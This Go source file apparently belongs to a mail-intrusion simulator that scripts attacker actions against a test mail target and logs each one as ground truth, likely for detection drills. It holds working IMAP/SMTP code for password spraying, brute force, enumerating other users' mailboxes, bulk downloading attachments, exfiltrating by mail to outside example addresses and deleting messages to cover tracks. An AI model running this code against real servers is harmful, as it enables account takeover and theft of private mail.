package scenarios

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"path"
	"sort"
	"strings"
	"time"

	"github.com/emersion/go-imap/v2"
	"github.com/emersion/go-imap/v2/imapclient"
	gomessage "github.com/emersion/go-message"
	"github.com/emersion/go-message/mail"
	"github.com/emersion/go-sasl"

	"github.com/maildrill/maildrill/mailsim/smtpd"
	"github.com/maildrill/maildrill/mailsim/target"
)

func init() {
	register(&stepKind{Name: "wait", Summary: "let scenario time pass", Keys: []string{"duration"}, Scalar: "duration",
		Example: "- wait: 45m", run: func(ctx context.Context, a *actorRun, st *Step, p *params) error {
			return a.waitUntil(ctx, a.now.Add(p.Duration))
		}})
	register(&stepKind{Name: "login", Summary: "connect over IMAP (with the actor's ID) and log in", Keys: []string{"user", "passwords"},
		Example: "- login: {}            # the actor's credentials\n- login: {user: director}", run: stepLogin})
	register(&stepKind{Name: "connect", Summary: "connect over IMAP and send ID without logging in (banner and capability reconnaissance)",
		Example: "- connect", run: func(ctx context.Context, a *actorRun, st *Step, p *params) error {
			c, key, err := a.imapConnect(ctx)
			if err != nil {
				return err
			}
			if _, err := c.Capability().Wait(); err != nil {
				c.Close()
				return err
			}
			a.imapClose(c, key)
			a.record("imap.connect", "success", TruthRecord{})
			return nil
		}})
	register(&stepKind{Name: "logout", Summary: "log out and disconnect", Example: "- logout",
		run: func(ctx context.Context, a *actorRun, st *Step, p *params) error { a.logout(); return nil }})
	register(&stepKind{Name: "spray", Summary: "password spray: a few common passwords against many accounts, over IMAP or SMTP",
		Keys:    []string{"users", "passwords", "delay", "service", "stop_on_success"},
		Example: "- spray: {users: 30, passwords: [Hiver2025!, Bienvenue1], delay: 20s}", run: stepSpray})
	register(&stepKind{Name: "brute_force", Summary: "many passwords against one account", Keys: []string{"user", "passwords", "attempts", "delay", "service"},
		Example: "- brute_force: {user: director, attempts: 40, delay: 5s}", run: stepBrute})
	register(&stepKind{Name: "list", Summary: "enumerate folders (LIST), including other users' and shared ones", Keys: []string{"pattern"},
		Example: "- list: {pattern: \"*\"}", run: stepList})
	register(&stepKind{Name: "select", Summary: "open a mailbox read-write", Keys: []string{"mailbox"}, Scalar: "mailbox",
		Example: "- select: INBOX", run: func(ctx context.Context, a *actorRun, st *Step, p *params) error {
			_, err := a.selectMailbox(ctx, p.Mailbox, false)
			return err
		}})
	register(&stepKind{Name: "examine", Summary: "open a mailbox read-only", Keys: []string{"mailbox"}, Scalar: "mailbox",
		Example: "- examine: Users/directeur/INBOX", run: func(ctx context.Context, a *actorRun, st *Step, p *params) error {
			_, err := a.selectMailbox(ctx, p.Mailbox, true)
			return err
		}})
	register(&stepKind{Name: "search", Summary: "SEARCH a mailbox by keywords, sender, dates, attachment", Keys: []string{"mailbox", "keywords", "text", "from", "since", "before", "has_attachment"},
		Example: "- search: {mailbox: INBOX, keywords: [TAJ, fichier, confidentiel]}", run: stepSearch})
	register(&stepKind{Name: "fetch_headers", Summary: "fetch envelopes and body structures", Keys: []string{"mailbox", "limit", "from_search"},
		Example: "- fetch_headers: {mailbox: INBOX, limit: 100}", run: stepFetchHeaders})
	register(&stepKind{Name: "download_attachments", Summary: "download attachment parts, filtered by type, size and name",
		Keys:    []string{"mailbox", "from_search", "types", "min_size", "max_size", "name", "limit", "delay"},
		Example: "- download_attachments: {mailbox: INBOX, types: [pdf, xlsx, csv], limit: 60, delay: 3s}", run: stepDownloadAttachments})
	register(&stepKind{Name: "download_messages", Summary: "download whole messages (BODY[])", Keys: []string{"mailbox", "from_search", "limit", "delay"},
		Example: "- download_messages: {mailbox: Sent, limit: 200, delay: 1s}", run: stepDownloadMessages})
	register(&stepKind{Name: "open_mailboxes", Summary: "open other users' delegated or shared mailboxes, optionally downloading from each",
		Keys: []string{"scope", "download", "types", "limit", "delay"}, Example: "- open_mailboxes: {scope: all, download: attachments, limit: 10}", run: stepOpenMailboxes})
	register(&stepKind{Name: "mark", Summary: "mark messages read or unread", Keys: []string{"mailbox", "seen", "limit", "from_search"},
		Example: "- mark: {mailbox: INBOX, seen: false, limit: 5}", run: stepMark})
	register(&stepKind{Name: "delete", Summary: "flag \\Deleted and expunge (covering tracks)", Keys: []string{"mailbox", "limit", "from_search", "expunge"},
		Example: "- delete: {mailbox: Sent, limit: 3, expunge: true}", run: stepDelete})
	register(&stepKind{Name: "move", Summary: "move messages to another mailbox", Keys: []string{"mailbox", "name", "limit", "from_search"},
		Example: "- move: {mailbox: INBOX, name: Archive/2025, limit: 10}", run: stepMove})
	register(&stepKind{Name: "append", Summary: "APPEND a message (e.g. a draft used as a dead drop)", Keys: []string{"mailbox", "subject", "body"},
		Example: "- append: {mailbox: Drafts, subject: notes, body: \"...\"}", run: stepAppend})
	register(&stepKind{Name: "idle", Summary: "IDLE on the selected mailbox", Keys: []string{"duration", "mailbox"}, Scalar: "duration",
		Example: "- idle: 10m", run: stepIdle})
	register(&stepKind{Name: "send", Summary: "send mail over SMTP submission, with downloaded attachments (exfiltration)",
		Keys: []string{"to", "subject", "body", "attach", "max_attachments", "delay"}, Example: "- send: {to: [depot@proton.example], attach: downloaded, max_attachments: 10}", run: stepSend})
	register(&stepKind{Name: "forward", Summary: "forward messages of a mailbox to an address", Keys: []string{"to", "mailbox", "limit", "from_search", "delay"},
		Example: "- forward: {mailbox: INBOX, to: [relais@gmail.example], limit: 5}", run: stepForward})
	register(&stepKind{Name: "repeat", Summary: "repeat steps", Keys: []string{"times", "steps"},
		Example: "- repeat:\n    times: 3\n    steps: [{wait: 1h}, {login: {}}, logout]", run: stepRepeat})
	register(&stepKind{Name: "foreach", Summary: "run steps for each of the user's mailboxes or each other mailbox they can open", Keys: []string{"over", "pattern", "limit", "steps"},
		Example: "- foreach:\n    over: mailboxes\n    steps: [{examine: {}}, {download_attachments: {limit: 5}}]", run: stepForeach})
}

func defDelay(p *params, d time.Duration) time.Duration {
	if p.Delay >= 0 {
		return p.Delay
	}
	return d
}

func stepLogin(ctx context.Context, a *actorRun, st *Step, p *params) error {
	cr, err := a.credentials(p)
	if errors.Is(err, errListed) {
		return a.tryList(ctx)
	}
	if err != nil {
		return err
	}
	return a.login(ctx, cr)
}

func (a *actorRun) sprayTargets(n int) []string {
	var users []string
	for _, acc := range a.r.target.Accounts() {
		if acc.Kind == "person" {
			users = append(users, acc.Address)
		}
	}
	// A deterministic shuffle, like an attacker's harvested list.
	a.rng.Shuffle(len(users), func(i, j int) { users[i], users[j] = users[j], users[i] })
	if n > 0 && n < len(users) {
		users = users[:n]
	}
	return users
}

// tryPassword attempts one login over IMAP or SMTP.
func (a *actorRun) tryPassword(ctx context.Context, service, user, pass string) (bool, error) {
	if service == "smtp" {
		c, key, err := a.smtpSession(ctx, cred{user, pass})
		if err != nil {
			return false, err
		}
		err = c.Auth(sasl.NewPlainClient("", user, pass))
		a.smtpClose(c, key)
		ok := err == nil
		a.record("smtp.auth", outcome(ok), TruthRecord{User: user})
		return ok, nil
	}
	c, key, err := a.imapConnect(ctx)
	if err != nil {
		return false, err
	}
	err = c.Login(user, pass).Wait()
	a.imapClose(c, key)
	ok := err == nil
	a.record("imap.login", outcome(ok), TruthRecord{User: user})
	return ok, nil
}

func outcome(ok bool) string {
	if ok {
		return "success"
	}
	return "failure"
}

func stepSpray(ctx context.Context, a *actorRun, st *Step, p *params) error {
	pws := p.Passwords
	if len(pws) == 0 {
		common := target.CommonPasswords()
		pws = common[:min(3, len(common))]
	}
	users := a.sprayTargets(p.Users)
	delay := defDelay(p, 15*time.Second)
	first := true
	for _, pw := range pws {
		for _, u := range users {
			if !first {
				if err := a.tick(ctx, delay); err != nil {
					return err
				}
			}
			first = false
			ok, err := a.tryPassword(ctx, p.Service, u, pw)
			if err != nil {
				return err
			}
			if ok {
				a.found = append(a.found, cred{u, pw})
				a.r.note(Note{Time: a.now, Actor: a.name, Kind: "info", Text: "valid password found for " + u})
				if p.StopOnSuccess {
					return nil
				}
			}
		}
	}
	return nil
}

func stepBrute(ctx context.Context, a *actorRun, st *Step, p *params) error {
	acc, err := a.account(p.User)
	if err != nil {
		return err
	}
	pws := append([]string(nil), p.Passwords...)
	if len(pws) == 0 {
		common := target.CommonPasswords()
		pws = append(pws, common...)
		for i := 0; len(pws) < 200; i++ {
			pws = append(pws, fmt.Sprintf("%s%d!", common[i%len(common)], 2020+i))
		}
	}
	attempts := p.Attempts
	if attempts == 0 {
		attempts = 30
	}
	if attempts > len(pws) {
		attempts = len(pws)
	}
	// The real password is "found" at the end, like a successful crack.
	pws = append(pws[:attempts-1], acc.Password)
	delay := defDelay(p, 5*time.Second)
	for i, pw := range pws {
		if i > 0 {
			if err := a.tick(ctx, delay); err != nil {
				return err
			}
		}
		ok, err := a.tryPassword(ctx, p.Service, acc.Address, pw)
		if err != nil {
			return err
		}
		if ok {
			a.found = append([]cred{{acc.Address, pw}}, a.found...)
			return nil
		}
	}
	return nil
}

func stepList(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if err := a.ensureIMAP(ctx); err != nil {
		return err
	}
	pat := p.Pattern
	if pat == "" {
		pat = "*"
	}
	list, err := a.ic.List("", pat, nil).Collect()
	if err != nil {
		return err
	}
	a.record("imap.list", "success", TruthRecord{Count: len(list), Detail: pat})
	return nil
}

func stepSearch(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, a.selected), true); err != nil && a.selected == "" {
		return err
	}
	var crit imap.SearchCriteria
	if len(p.Text) > 1 {
		// Any of the keywords: OR chain.
		crit = orCriteria(p.Text)
	} else if len(p.Text) == 1 {
		crit.Text = []string{p.Text[0]}
	}
	if p.From != "" {
		crit.Header = append(crit.Header, imap.SearchCriteriaHeaderField{Key: "From", Value: p.From})
	}
	crit.Since, crit.Before = p.Since, p.Before
	if p.HasAttachment {
		crit.Header = append(crit.Header, imap.SearchCriteriaHeaderField{Key: "Content-Type", Value: "multipart/mixed"})
	}
	data, err := a.ic.UIDSearch(&crit, nil).Wait()
	if err != nil {
		return err
	}
	uids := data.AllUIDs()
	a.search[a.selected] = uids
	a.record("imap.search", "success", TruthRecord{Mailbox: a.selected, Count: len(uids), Detail: strings.Join(p.Text, " OR ")})
	return nil
}

func orCriteria(words []string) imap.SearchCriteria {
	if len(words) == 1 {
		return imap.SearchCriteria{Text: []string{words[0]}}
	}
	return imap.SearchCriteria{Or: [][2]imap.SearchCriteria{{{Text: []string{words[0]}}, orCriteria(words[1:])}}}
}

// targetUIDs picks the UIDs a step works on: the last search results, or
// the newest messages of the selected mailbox.
func (a *actorRun) targetUIDs(ctx context.Context, fromSearch bool, limit int) ([]imap.UID, error) {
	var uids []imap.UID
	if fromSearch {
		uids = append(uids, a.search[a.selected]...)
	} else {
		data, err := a.ic.UIDSearch(&imap.SearchCriteria{}, nil).Wait()
		if err != nil {
			return nil, err
		}
		uids = data.AllUIDs()
	}
	// Newest first.
	sort.Slice(uids, func(i, j int) bool { return uids[i] > uids[j] })
	if limit >= 0 && len(uids) > limit {
		uids = uids[:limit]
	}
	return uids, nil
}

func stepFetchHeaders(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, a.selected), true); err != nil && a.selected == "" {
		return err
	}
	uids, err := a.targetUIDs(ctx, p.FromSearch, orDefault(p.Limit, 50))
	if err != nil || len(uids) == 0 {
		return err
	}
	msgs, err := a.ic.Fetch(imap.UIDSetNum(uids...), &imap.FetchOptions{UID: true, Envelope: true, BodyStructure: &imap.FetchItemBodyStructure{}, RFC822Size: true, Flags: true}).Collect()
	if err != nil {
		return err
	}
	a.record("imap.fetch_headers", "success", TruthRecord{Mailbox: a.selected, Count: len(msgs)})
	return nil
}

func orDefault(v, d int) int {
	if v < 0 {
		return d
	}
	return v
}

type partRef struct {
	uid  imap.UID
	part []int
	name string
	mime string
	size uint32
}

func matchAttachment(p *params, name string, size uint32) bool {
	ext := strings.TrimPrefix(strings.ToLower(path.Ext(name)), ".")
	if len(p.Types) > 0 && !contains(p.Types, ext) {
		return false
	}
	if p.MinSize > 0 && int64(size) < p.MinSize*4/3 {
		return false
	}
	if p.MaxSize > 0 && int64(size) > p.MaxSize*4/3+4096 {
		return false
	}
	if p.Name != "" {
		ok, _ := path.Match(strings.ToLower(p.Name), strings.ToLower(name))
		if !ok {
			return false
		}
	}
	return true
}

func (a *actorRun) attachmentParts(uids []imap.UID, p *params) ([]partRef, error) {
	if len(uids) == 0 {
		return nil, nil
	}
	msgs, err := a.ic.Fetch(imap.UIDSetNum(uids...), &imap.FetchOptions{UID: true, BodyStructure: &imap.FetchItemBodyStructure{Extended: true}}).Collect()
	if err != nil {
		return nil, err
	}
	sort.Slice(msgs, func(i, j int) bool { return msgs[i].UID > msgs[j].UID })
	var out []partRef
	for _, m := range msgs {
		if m.BodyStructure == nil {
			continue
		}
		m.BodyStructure.Walk(func(pth []int, bs imap.BodyStructure) bool {
			sp, ok := bs.(*imap.BodyStructureSinglePart)
			if !ok {
				return true
			}
			name := sp.Filename()
			if name == "" {
				return true
			}
			if matchAttachment(p, name, sp.Size) {
				out = append(out, partRef{uid: m.UID, part: append([]int(nil), pth...), name: name, mime: sp.MediaType(), size: sp.Size})
			}
			return true
		})
	}
	return out, nil
}

const maxKeptDownloads = 64 << 20

func stepDownloadAttachments(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, a.selected), true); err != nil && a.selected == "" {
		return err
	}
	uids, err := a.targetUIDs(ctx, p.FromSearch, -1)
	if err != nil {
		return err
	}
	parts, err := a.attachmentParts(uids, p)
	if err != nil {
		return err
	}
	limit := orDefault(p.Limit, 50)
	if len(parts) > limit {
		parts = parts[:limit]
	}
	delay := defDelay(p, a.a.Pacing.Delay)
	var got int
	var total int64
	for i, pr := range parts {
		if err := a.budgetLeft(); err != nil {
			return err
		}
		if i > 0 {
			if err := a.tick(ctx, delay); err != nil {
				return err
			}
		}
		data, err := a.fetchPart(pr.uid, pr.part)
		if err != nil {
			return err
		}
		got++
		total += int64(len(data))
		a.bytes += int64(len(data))
		a.messages++
		a.keep(attachment{name: pr.name, mime: pr.mime, data: data})
		a.record("imap.download_attachment", "success", TruthRecord{Mailbox: a.selected, Bytes: int64(len(data)), Count: 1, Detail: pr.name})
		a.r.note(Note{Time: a.now, Actor: a.name, Kind: "progress", Text: "downloading attachments", Count: got, Total: len(parts), Bytes: total})
	}
	return nil
}

func (a *actorRun) keep(att attachment) {
	if a.dlBytes+int64(len(att.data)) > maxKeptDownloads {
		return
	}
	a.dlBytes += int64(len(att.data))
	a.downloads = append(a.downloads, att)
}

func (a *actorRun) fetchPart(uid imap.UID, part []int) ([]byte, error) {
	sec := &imap.FetchItemBodySection{Part: part, Peek: true}
	cmd := a.ic.Fetch(imap.UIDSetNum(uid), &imap.FetchOptions{UID: true, BodySection: []*imap.FetchItemBodySection{sec}})
	defer cmd.Close()
	var data []byte
	for {
		m := cmd.Next()
		if m == nil {
			break
		}
		for {
			item := m.Next()
			if item == nil {
				break
			}
			if bs, ok := item.(imapclient.FetchItemDataBodySection); ok && bs.Literal != nil {
				b, err := io.ReadAll(bs.Literal)
				if err != nil {
					return nil, err
				}
				data = b
			}
		}
	}
	if err := cmd.Close(); err != nil {
		return nil, err
	}
	// Attachments travel base64-encoded; keep the decoded file.
	if len(part) > 0 {
		if dec, err := decodeB64(data); err == nil {
			return dec, nil
		}
	}
	return data, nil
}

func orStr(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

func stepDownloadMessages(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, a.selected), true); err != nil && a.selected == "" {
		return err
	}
	uids, err := a.targetUIDs(ctx, p.FromSearch, orDefault(p.Limit, 100))
	if err != nil {
		return err
	}
	delay := defDelay(p, a.a.Pacing.Delay)
	var total int64
	for i, uid := range uids {
		if err := a.budgetLeft(); err != nil {
			return err
		}
		if i > 0 {
			if err := a.tick(ctx, delay); err != nil {
				return err
			}
		}
		data, err := a.fetchPart(uid, nil)
		if err != nil {
			return err
		}
		total += int64(len(data))
		a.bytes += int64(len(data))
		a.messages++
		a.lastRead = append(a.lastRead, uid)
		a.record("imap.download_message", "success", TruthRecord{Mailbox: a.selected, Bytes: int64(len(data)), Count: 1})
		a.r.note(Note{Time: a.now, Actor: a.name, Kind: "progress", Text: "downloading messages", Count: i + 1, Total: len(uids), Bytes: total})
	}
	return nil
}

// others lists the other mailboxes (INBOX of each) the user can open.
func (a *actorRun) others(ctx context.Context, scope string) ([]string, error) {
	if err := a.ensureIMAP(ctx); err != nil {
		return nil, err
	}
	list, err := a.ic.List("", "*", nil).Collect()
	if err != nil {
		return nil, err
	}
	var out []string
	for _, l := range list {
		shared := strings.HasPrefix(l.Mailbox, "Shared/")
		deleg := strings.HasPrefix(l.Mailbox, "Users/")
		if !strings.HasSuffix(l.Mailbox, "/INBOX") {
			continue
		}
		if scope == "shared" && shared || scope == "delegated" && deleg || (scope == "all" || scope == "") && (shared || deleg) {
			out = append(out, l.Mailbox)
		}
	}
	return out, nil
}

func stepOpenMailboxes(ctx context.Context, a *actorRun, st *Step, p *params) error {
	boxes, err := a.others(ctx, p.Scope)
	if err != nil {
		return err
	}
	a.record("imap.list", "success", TruthRecord{Count: len(boxes), Detail: "other mailboxes"})
	for _, mb := range boxes {
		if err := a.tick(ctx, -1); err != nil {
			return err
		}
		if _, err := a.selectMailbox(ctx, mb, true); err != nil {
			continue
		}
		switch p.Download {
		case "attachments":
			q := *p
			q.Mailbox, q.FromSearch = mb, false
			if err := stepDownloadAttachments(ctx, a, st, &q); err != nil {
				return err
			}
		case "messages":
			q := *p
			q.Mailbox, q.FromSearch = mb, false
			if err := stepDownloadMessages(ctx, a, st, &q); err != nil {
				return err
			}
		}
	}
	return nil
}

func stepMark(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, a.selected), false); err != nil && a.selected == "" {
		return err
	}
	uids, err := a.targetUIDs(ctx, p.FromSearch, orDefault(p.Limit, 10))
	if err != nil || len(uids) == 0 {
		return err
	}
	op := imap.StoreFlagsDel
	if p.Seen {
		op = imap.StoreFlagsAdd
	}
	if err := a.ic.Store(imap.UIDSetNum(uids...), &imap.StoreFlags{Op: op, Flags: []imap.Flag{imap.FlagSeen}, Silent: true}, nil).Close(); err != nil {
		return err
	}
	a.record("imap.store", "success", TruthRecord{Mailbox: a.selected, Count: len(uids)})
	return nil
}

func stepDelete(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, a.selected), false); err != nil && a.selected == "" {
		return err
	}
	var uids []imap.UID
	if !p.FromSearch && len(a.lastRead) > 0 && p.Mailbox == "" {
		uids = append(uids, a.lastRead...)
		if p.Limit >= 0 && len(uids) > p.Limit {
			uids = uids[:p.Limit]
		}
	} else {
		var err error
		if uids, err = a.targetUIDs(ctx, p.FromSearch, orDefault(p.Limit, 5)); err != nil {
			return err
		}
	}
	if len(uids) == 0 {
		return nil
	}
	set := imap.UIDSetNum(uids...)
	if err := a.ic.Store(set, &imap.StoreFlags{Op: imap.StoreFlagsAdd, Flags: []imap.Flag{imap.FlagDeleted}, Silent: true}, nil).Close(); err != nil {
		return err
	}
	if p.Expunge {
		if err := a.ic.UIDExpunge(set).Close(); err != nil {
			return err
		}
	}
	a.lastRead = nil
	a.record("imap.delete", "success", TruthRecord{Mailbox: a.selected, Count: len(uids)})
	return nil
}

func stepMove(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, a.selected), false); err != nil && a.selected == "" {
		return err
	}
	uids, err := a.targetUIDs(ctx, p.FromSearch, orDefault(p.Limit, 10))
	if err != nil || len(uids) == 0 {
		return err
	}
	if _, err := a.ic.Move(imap.UIDSetNum(uids...), p.Name).Wait(); err != nil {
		return err
	}
	a.record("imap.move", "success", TruthRecord{Mailbox: a.selected, Count: len(uids), Detail: "to " + p.Name})
	return nil
}

func stepAppend(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if err := a.ensureIMAP(ctx); err != nil {
		return err
	}
	msg := buildMessage(a.user, []string{a.user}, orStr(p.Subject, "notes"), orStr(p.Body, "-"), nil, a.r.clk.Now(), a.tag())
	cmd := a.ic.Append(p.Mailbox, int64(len(msg)), &imap.AppendOptions{Flags: []imap.Flag{imap.FlagDraft}})
	if _, err := cmd.Write(msg); err != nil {
		return err
	}
	if err := cmd.Close(); err != nil {
		return err
	}
	if _, err := cmd.Wait(); err != nil {
		return err
	}
	a.record("imap.append", "success", TruthRecord{Mailbox: p.Mailbox, Bytes: int64(len(msg))})
	return nil
}

func stepIdle(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, orStr(a.selected, "INBOX")), false); err != nil && a.selected == "" {
		return err
	}
	cmd, err := a.ic.Idle()
	if err != nil {
		return err
	}
	a.record("imap.idle", "success", TruthRecord{Mailbox: a.selected})
	werr := a.waitUntil(ctx, a.now.Add(p.Duration))
	if err := cmd.Close(); err != nil {
		return err
	}
	if err := cmd.Wait(); err != nil {
		return err
	}
	return werr
}

func stepSend(ctx context.Context, a *actorRun, st *Step, p *params) error {
	cr, err := a.sendCreds()
	if err != nil {
		return err
	}
	var atts []attachment
	if p.Attach {
		atts = a.downloads
		if len(atts) == 0 {
			// Data-dependent: the searches found nothing to take.
			a.record("smtp.send", "skipped", TruthRecord{Detail: "nothing downloaded to attach"})
			a.r.note(Note{Time: a.now, Actor: a.name, Kind: "info", Text: "send skipped: nothing was downloaded to attach"})
			return nil
		}
	}
	per := p.MaxAttachments
	if per <= 0 {
		per = 10
	}
	delay := defDelay(p, a.a.Pacing.Delay)
	batches := [][]attachment{nil}
	if len(atts) > 0 {
		batches = nil
		for i := 0; i < len(atts); i += per {
			batches = append(batches, atts[i:min(i+per, len(atts))])
		}
	}
	for i, b := range batches {
		if i > 0 {
			if err := a.tick(ctx, delay); err != nil {
				return err
			}
		}
		subj := orStr(p.Subject, "documents")
		if len(batches) > 1 {
			subj = fmt.Sprintf("%s (%d/%d)", subj, i+1, len(batches))
		}
		msg := buildMessage(cr.user, p.To, subj, orStr(p.Body, "Ci-joint."), b, a.r.clk.Now(), a.tag())
		if err := a.sendMail(ctx, cr, p.To, msg); err != nil {
			return err
		}
		a.record("smtp.send", "success", TruthRecord{Bytes: int64(len(msg)), Count: len(b), Detail: "to " + strings.Join(p.To, ",")})
	}
	return nil
}

func (a *actorRun) sendCreds() (cred, error) {
	if a.user != "" {
		return cred{a.user, a.pass}, nil
	}
	return a.credentials(nil)
}

func (a *actorRun) sendMail(ctx context.Context, cr cred, to []string, msg []byte) error {
	c, key, err := a.smtpSession(ctx, cr)
	if err != nil {
		return err
	}
	defer a.smtpClose(c, key)
	if err := c.Auth(smtpd.NewLoginClient(cr.user, cr.pass, false)); err != nil {
		return fmt.Errorf("SMTP AUTH as %s: %w", cr.user, err)
	}
	return c.SendMail(cr.user, to, bytes.NewReader(msg))
}

func stepForward(ctx context.Context, a *actorRun, st *Step, p *params) error {
	if _, err := a.selectMailbox(ctx, orStr(p.Mailbox, a.selected), true); err != nil && a.selected == "" {
		return err
	}
	uids, err := a.targetUIDs(ctx, p.FromSearch, orDefault(p.Limit, 5))
	if err != nil {
		return err
	}
	cr, err := a.sendCreds()
	if err != nil {
		return err
	}
	delay := defDelay(p, a.a.Pacing.Delay)
	for i, uid := range uids {
		if i > 0 {
			if err := a.tick(ctx, delay); err != nil {
				return err
			}
		}
		raw, err := a.fetchPart(uid, nil)
		if err != nil {
			return err
		}
		msg := buildMessage(cr.user, p.To, "TR: message", "Message transféré.", []attachment{{name: "message.eml", mime: "message/rfc822", data: raw}}, a.r.clk.Now(), a.tag())
		if err := a.sendMail(ctx, cr, p.To, msg); err != nil {
			return err
		}
		a.record("smtp.forward", "success", TruthRecord{Mailbox: a.selected, Bytes: int64(len(msg)), Detail: "to " + strings.Join(p.To, ",")})
	}
	return nil
}

func stepRepeat(ctx context.Context, a *actorRun, st *Step, p *params) error {
	for i := 0; i < p.Times; i++ {
		if err := a.runSteps(ctx, p.Steps); err != nil {
			return err
		}
	}
	return nil
}

func stepForeach(ctx context.Context, a *actorRun, st *Step, p *params) error {
	var boxes []string
	switch p.Over {
	case "others":
		var err error
		if boxes, err = a.others(ctx, "all"); err != nil {
			return err
		}
	default:
		if err := a.ensureIMAP(ctx); err != nil {
			return err
		}
		list, err := a.ic.List("", orStr(p.Pattern, "*"), nil).Collect()
		if err != nil {
			return err
		}
		for _, l := range list {
			if !hasAttr(l.Attrs, imap.MailboxAttrNoSelect) && !strings.HasPrefix(l.Mailbox, "Users/") && !strings.HasPrefix(l.Mailbox, "Shared/") {
				boxes = append(boxes, l.Mailbox)
			}
		}
	}
	if p.Limit >= 0 && len(boxes) > p.Limit {
		boxes = boxes[:p.Limit]
	}
	for _, mb := range boxes {
		if _, err := a.selectMailbox(ctx, mb, true); err != nil {
			continue
		}
		if err := a.runSteps(ctx, withMailbox(p.Steps, mb)); err != nil {
			return err
		}
	}
	return nil
}

// withMailbox fills the mailbox of steps that name none.
func withMailbox(steps []*Step, mb string) []*Step {
	out := make([]*Step, len(steps))
	for i, st := range steps {
		cp := *st
		ks := *st.params.(*kindStep)
		if contains(ks.kind.Keys, "mailbox") && ks.p.Mailbox == "" {
			ks.p.Mailbox = mb
		}
		cp.params = &ks
		out[i] = &cp
	}
	return out
}

func hasAttr(attrs []imap.MailboxAttr, a imap.MailboxAttr) bool {
	for _, x := range attrs {
		if x == a {
			return true
		}
	}
	return false
}

// buildMessage writes a MIME message with attachments. tag makes the
// Message-ID and boundary unique and deterministic.
func buildMessage(from string, to []string, subject, body string, atts []attachment, date time.Time, tag string) []byte {
	var buf bytes.Buffer
	var h mail.Header
	h.SetDate(date)
	h.SetSubject(subject)
	h.SetAddressList("From", []*mail.Address{{Address: from}})
	var tl []*mail.Address
	for _, t := range to {
		tl = append(tl, &mail.Address{Address: t})
	}
	h.SetAddressList("To", tl)
	h.SetMessageID(tag + "@maildrill.test")
	h.Set("MIME-Version", "1.0")
	h.Set("Content-Type", "multipart/mixed; boundary=\"=_md_"+tag+"\"")
	mw, err := gomessage.CreateWriter(&buf, h.Header)
	if err != nil {
		return nil
	}
	var th gomessage.Header
	th.Set("Content-Type", "text/plain; charset=utf-8")
	th.Set("Content-Transfer-Encoding", "quoted-printable")
	if tw, err := mw.CreatePart(th); err == nil {
		io.WriteString(tw, body+"\r\n")
		tw.Close()
	}
	for _, at := range atts {
		var ah gomessage.Header
		ah.SetContentType(orStr(at.mime, "application/octet-stream"), map[string]string{"name": at.name})
		ah.SetContentDisposition("attachment", map[string]string{"filename": at.name})
		if at.mime == "message/rfc822" {
			ah.Set("Content-Transfer-Encoding", "8bit") // RFC 2046: no base64 for message/rfc822
		} else {
			ah.Set("Content-Transfer-Encoding", "base64")
		}
		aw, err := mw.CreatePart(ah)
		if err != nil {
			continue
		}
		aw.Write(at.data)
		aw.Close()
	}
	mw.Close()
	return buf.Bytes()
}

// tag returns a deterministic unique token for message ids.
func (a *actorRun) tag() string { return fmt.Sprintf("%016x", a.rng.Uint64()) }
